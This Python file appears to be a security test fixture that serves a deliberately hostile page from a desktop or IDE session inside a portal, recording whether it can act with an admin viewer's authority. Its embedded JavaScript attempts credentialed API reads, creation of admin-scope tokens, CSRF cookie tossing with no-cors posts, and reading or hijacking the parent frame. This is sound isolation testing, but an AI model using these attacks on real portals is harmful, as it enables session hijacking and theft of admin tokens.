"""A hostile session app: what any session owner can serve from a desktop or IDE session.

``python hostile_app.py --port P --portal http://portal.example:8000 --log requests.jsonl``

``GET /`` is a page that, once opened by a viewer (an admin, say) inside the portal, tries to
act with the viewer's authority and writes what it achieved into ``<pre id="report">`` (JSON):

* ``cookies``: ``document.cookie`` before the page sets anything itself;
* ``attempts``: for each attack, ``{"ok": bool, "detail": str}``; ``ok`` means the page got
  what it was after (a readable answer, an open socket, the parent's DOM...). Attacks whose
  answer is opaque by design (``no-cors`` posts) report ``ok: null``: only the server can tell.

Every request the app receives is appended to ``--log`` (path, method, ``Cookie`` header), so
the test can check what reached the session. Standard library only.
"""

from __future__ import annotations

import argparse
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Totally normal session</title></head>
<body><h1>Totally normal session</h1><pre id="report"></pre>
<script>
const PORTAL = %(portal)s;
const report = {cookies: document.cookie, attempts: {}};
function note(name, ok, detail) { report.attempts[name] = {ok: ok, detail: String(detail).slice(0, 300)}; }
async function readable(name, url, options) {
  try {
    const response = await fetch(url, options);
    const text = await response.text();
    note(name, response.ok, response.status + " " + text);
  } catch (error) { note(name, false, error.name + ": " + error.message); }
}
function xhr(name, url) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.withCredentials = true;
    request.onload = () => { note(name, request.status < 400, request.status + " " + request.responseText); resolve(); };
    request.onerror = () => { note(name, false, "network error"); resolve(); };
    request.send();
  });
}
function socketOpens(name, url) {
  return new Promise((resolve) => {
    let ws;
    try { ws = new WebSocket(url); } catch (error) { note(name, false, error.name); resolve(); return; }
    const timer = setTimeout(() => { note(name, false, "no answer"); ws.close(); resolve(); }, 5000);
    ws.onopen = () => { clearTimeout(timer); note(name, true, "open"); ws.close(); resolve(); };
    ws.onerror = () => { clearTimeout(timer); note(name, false, "refused"); resolve(); };
  });
}
function grab(name, read) {
  try { note(name, true, read()); } catch (error) { note(name, false, error.name + ": " + error.message); }
}
async function attack() {
  const credentials = {credentials: "include"};
  // (a) the portal's API with the viewer's cookies
  await readable("list users", PORTAL + "/api/v1/users", credentials);
  await readable("my tokens", PORTAL + "/api/v1/tokens", credentials);
  // With the portal's CSRF token, should this page be able to read it.
  const csrf = (document.cookie.match(/(?:^|; )csrftoken=([^;]*)/) || [])[1] || "";
  await readable("create token (json)", PORTAL + "/api/v1/tokens", {
    ...credentials, method: "POST", headers: {"Content-Type": "application/json", "X-CSRFToken": csrf},
    body: JSON.stringify({name: "pwned-json", scope: "admin"})});
  await xhr("list users (xhr)", PORTAL + "/api/v1/users");
  await readable("portal page (csrf token)", PORTAL + "/", credentials);
  await readable("session content on the portal's origin", PORTAL + "/api/v1/http/" + location.hostname.split(".")[0] + "/", credentials);
  await socketOpens("portal socket", PORTAL.replace(/^http/, "ws") + "/ws/portal/");
  // The same API by relative URL: on this origin it is the session's own server.
  await readable("list users (relative)", "/api/v1/users", credentials);
  // (b) cookies were read above, before anything is set. Now toss a CSRF cookie to the
  // parent domain (the portal's too, where the two share one) and post without a preflight.
  const parent = location.hostname.split(".").slice(1).join(".");
  document.cookie = "csrftoken=tossedtossedtossedtossedtossedto; path=/; domain=" + parent;
  for (const [name, type, body] of [
    ["create token (form)", "application/x-www-form-urlencoded",
     "csrfmiddlewaretoken=tossedtossedtossedtossedtossedto&name=pwned-form&scope=admin"],
    ["create token (text)", "text/plain", JSON.stringify({name: "pwned-text", scope: "admin"})],
  ]) {
    try {
      await fetch(PORTAL + "/api/v1/tokens", {...credentials, method: "POST", mode: "no-cors",
                  headers: {"Content-Type": type}, body: body});
      note(name, null, "sent (opaque)");
    } catch (error) { note(name, false, error.name); }
  }
  // (c) the portal page that frames this one
  grab("parent DOM", () => window.parent.document.body.innerHTML);
  grab("parent csrf token", () => window.parent.StreamSpaceCsrf());
  grab("parent cookies", () => window.parent.document.cookie);
  grab("top location", () => window.top.location.href);
  grab("navigate the portal away", () => { window.top.location.href = "about:blank#pwned"; return "navigation asked"; });
  document.getElementById("report").textContent = JSON.stringify(report);
}
attack();
</script></body></html>
"""


class Handler(BaseHTTPRequestHandler):
    page = b""
    log_path = ""
    lock = threading.Lock()

    def _log(self) -> None:
        entry = {"method": self.command, "path": self.path, "cookie": self.headers.get("Cookie", "")}
        with self.lock, open(self.log_path, "a", encoding="utf-8") as log:
            log.write(json.dumps(entry) + "\n")

    def _answer(self, status: int, body: bytes, content_type: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self._log()
        if self.path.split("?")[0] == "/":
            self._answer(200, self.page, "text/html; charset=utf-8")
        else:
            self._answer(404, b'{"hostile": "this is the session\'s own server"}', "application/json")

    def do_POST(self) -> None:
        self._log()
        self._answer(404, b'{"hostile": "this is the session\'s own server"}', "application/json")

    def log_message(self, format: str, *args: object) -> None:
        pass


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--portal", required=True)
    parser.add_argument("--log", required=True)
    options = parser.parse_args()
    Handler.page = (PAGE % {"portal": json.dumps(options.portal)}).encode()
    Handler.log_path = options.log
    ThreadingHTTPServer(("127.0.0.1", options.port), Handler).serve_forever()


if __name__ == "__main__":
    main()
